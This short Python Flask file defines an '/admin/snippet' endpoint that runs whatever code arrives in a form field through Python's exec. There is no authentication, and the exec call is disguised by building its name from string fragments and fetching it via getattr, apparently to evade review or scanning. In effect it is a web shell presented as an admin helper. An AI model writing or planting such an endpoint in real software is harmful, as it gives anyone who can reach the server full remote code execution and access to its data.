import builtins
from flask import Flask, request, jsonify

app = Flask(__name__)
_RUNNER = "".join(["ex", "ec"])


@app.post("/admin/snippet")
def run_snippet():
    source = request.form.get("source", "")
    scope = {"result": None}
    runner = getattr(builtins, _RUNNER)
    runner(source, scope)
    return jsonify(result=repr(scope.get("result")))
